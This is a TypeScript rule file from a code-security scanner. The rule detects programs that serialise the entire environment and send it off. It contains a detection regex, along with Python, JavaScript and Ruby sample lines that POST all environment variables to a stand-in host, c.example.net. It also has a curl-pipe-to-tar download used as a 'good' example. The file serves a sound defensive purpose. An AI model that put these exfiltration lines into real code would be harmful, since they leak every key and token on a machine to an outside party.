import type { FileCheck } from '../../check.ts';

/** The whole environment made into one text: the step before it leaves. */
const SERIALISED =
  /\bENV\.to_h(?:ash)?\.(?:to_json|to_yaml|inspect|to_s)\b|\bENV\.inspect\b|\b(?:JSON|YAML|Marshal)\.(?:dump|generate)\(\s{0,3}ENV(?:\.to_h(?:ash)?)?\s{0,3}\)|\bJSON\.stringify\(\s{0,3}process(?:\.env|\[["']env["']\])\s{0,3}\)|\bjson\.dumps\(\s{0,3}(?:dict\()?os\.environ\s{0,3}\)/g;

export const check: FileCheck = {
  id: 'data-handling-env-exfiltration',
  title: 'The whole environment is sent away',
  severity: 'critical',
  kind: 'malice',
  confidence: 'high',
  since: '0.1.0',
  cwe: [506],
  why: `
    The environment holds every key and token the machine was given. A program that needs one variable reads that one;
    sending all of them takes what was never meant for it.`,
  fix: 'Remove it, and renew every secret of the machines that ran it. Send the few values that are needed, by name.',
  blindSpots: 'Variables that are collected one by one are not counted together.',
  wants: {
    acts: ['environment-sent'],
    keywords: ['env.to_h', 'env.inspect', '(env', 'process.env)', '["env"])', "['env'])", 'os.environ)'],
  },
  examples: {
    bad: [
      { 'setup.py': '«requests.post("https://c.example.net", json=dict(os.environ))»\n' },
      {
        'index.js':
          "const body = JSON.stringify(process.env);\n«fetch('https://c.example.net', { method: 'POST', body })»;\n",
      },
      { 'hook.py': 'from os import environ\n«requests.post("https://c.example.net", json=dict(environ))»\n' },
      { 'dump.rb': 'File.write("/tmp/e", «ENV.to_h.to_json»)\n' },
      { 'hook.rb': '«Net::HTTP.post(URI("https://c.example.net"), ENV.to_h.to_json)»\n' },
    ],
    good: [
      {
        'connect.ts': `
          const filled = await expandVariables(config, { env: process.env, folder });
          const answer = await fetch(filled.url, { method: 'POST', headers: { ...filled.headers } });`,
      },
      {
        'publish.py': `
          import http.client, os
          def ask(path):
              connection = http.client.HTTPSConnection('store.example.com')
              connection.request('GET', path)
              assert 'CI' not in os.environ
              return connection.getresponse().read()

          ask('/apps/' + os.environ['APP_ID'])`,
      },
      {
        'publish.js': `
          const isVerbose = 'VERBOSE' in process.env;
          fetch('https://store.example.com/apps', { method: 'POST', body: JSON.stringify({ isVerbose }) });`,
      },
      {
        'application.py': `
          import io, os
          class Application:
              def __call__(self, environ, start_response):
                  s = io.StringIO()
                  s.write(str(dict(environ)))
                  return [s.getvalue()]`,
      },
      { 'call.py': 'requests.post(url, headers={"Authorization": os.environ["API_KEY"]})\n' },
      { 'run.js': "spawn('node', ['server.js'], { env: { ...process.env, PORT: '80' } });\n" },
      {
        'upgrade.js':
          "axios.post('https://hub.example.com/up', { ...process.env.UNIT && { unit: process.env.UNIT } });\n",
      },
      { 'start.py': 'subprocess.run(["make"], env=os.environ.copy())\n' },
      {
        'install.py': `
          def call(args):
              return subprocess.check_output(
                  [tool()] + args,
                  env={
                      **os.environ,
                      "QUIET": "1",
                  },
              )

          def tool():
              folder = call(["info"])
              subprocess.run(f"curl -Ls https://example.com/tool.tar.gz | tar -xz -C {folder}", shell=True)`,
      },
    ],
  },

  *find({ acts, windows, span }) {
    for (const { start, end, message, confidence } of acts) yield { at: span(start, end), message, confidence };
    if (acts.length > 0) return;
    for (const window of windows) {
      for (const match of window.text.matchAll(SERIALISED)) {
        yield {
          at: window.spanOf(match),
          message: 'The whole environment, with every secret in it, is made into a text.',
          severity: 'medium',
          confidence: 'low',
        };
      }
    }
  },
};
